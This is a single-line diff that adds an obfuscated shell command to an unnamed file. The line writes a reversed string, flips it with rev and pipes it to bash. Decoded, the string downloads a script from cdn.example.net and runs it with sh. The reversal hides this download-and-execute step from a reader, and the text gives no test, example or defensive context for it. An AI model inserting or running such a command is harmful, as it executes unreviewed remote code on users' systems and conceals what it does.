@@ -1,0 +1,1 @@
+echo 'hs | x/ten.elpmaxe.ndc//:sptth lruc' | rev | bash
